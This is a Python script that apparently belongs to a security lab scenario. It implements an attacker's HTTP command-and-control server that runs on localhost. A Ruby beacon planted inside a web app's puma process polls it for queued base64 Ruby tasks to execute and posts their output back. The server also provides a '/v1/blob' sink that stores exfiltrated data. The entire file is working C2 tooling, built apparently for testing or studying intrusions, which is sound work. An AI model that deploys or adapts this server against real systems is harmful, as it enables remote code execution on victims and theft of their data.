#!/usr/bin/env python3
"""The attacker's HTTP polling C2 of scenario-shipnotes-import (runs as
labremote on 127.0.0.1). The beacon is a Ruby thread inside the app's puma
(Net::HTTP): GET /v1/poll?n=<beacon> returns the next queued task (the
oldest file in --queue: Ruby code, base64 on one line) or an empty body;
POST /v1/result?n=<beacon> carries the task's output (base64);
POST /v1/blob?n=<name> is the exfiltration sink: the raw body is kept as
<log>.blobs/<name> (one line in --log per chunk, not counted as output).
--log gets one line per beacon poll with a task, and every output;
<log>.beacons one line per new beacon id, <log>.count one line per output.
Exits after --lifetime seconds."""
import argparse
import base64
import os
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlparse

ap = argparse.ArgumentParser()
ap.add_argument("--port", type=int, required=True)
ap.add_argument("--queue", required=True)
ap.add_argument("--log", required=True)
ap.add_argument("--lifetime", type=int, default=900)
args = ap.parse_args()
seen = set()
lock = threading.Lock()


def note(path, line):
    with open(path, "a") as f:
        f.write(line + "\n")


class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"

    def log_message(self, *a):
        pass

    def _answer(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        u = urlparse(self.path)
        n = parse_qs(u.query).get("n", ["?"])[0]
        body = b""
        with lock:
            if n not in seen:
                seen.add(n)
                note(args.log + ".beacons", n)
                note(args.log, "%s beacon %s first poll" % (time.strftime("%H:%M:%S"), n))
            tasks = sorted(f for f in os.listdir(args.queue) if not f.startswith("."))
            if u.path == "/v1/poll" and tasks:
                p = os.path.join(args.queue, tasks[0])
                cmd = open(p, "rb").read()
                os.rename(p, os.path.join(args.queue, ".sent-" + tasks[0]))
                note(args.log, "%s task %s -> %s: %s" % (time.strftime("%H:%M:%S"), tasks[0], n, cmd.decode(errors="replace")))
                body = base64.b64encode(cmd) + b"\n"
        self._answer(body)

    def do_POST(self):
        u = urlparse(self.path)
        n = parse_qs(u.query).get("n", ["?"])[0]
        data = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if u.path == "/v1/blob":
            d = args.log + ".blobs"
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, os.path.basename(n)), "wb") as f:
                f.write(data)
            with lock:
                note(args.log, "%s blob %s: %d bytes" % (time.strftime("%H:%M:%S"), n, len(data)))
            self._answer(b"ok\n")
            return
        try:
            out = base64.b64decode(data).decode(errors="replace")
        except Exception:
            out = repr(data[:200])
        with lock:
            note(args.log, "%s output from %s:\n%s" % (time.strftime("%H:%M:%S"), n, out))
            note(args.log + ".count", n)
        self._answer(b"ok\n")


srv = ThreadingHTTPServer(("127.0.0.1", args.port), H)
threading.Timer(args.lifetime, srv.shutdown).start()
srv.serve_forever()
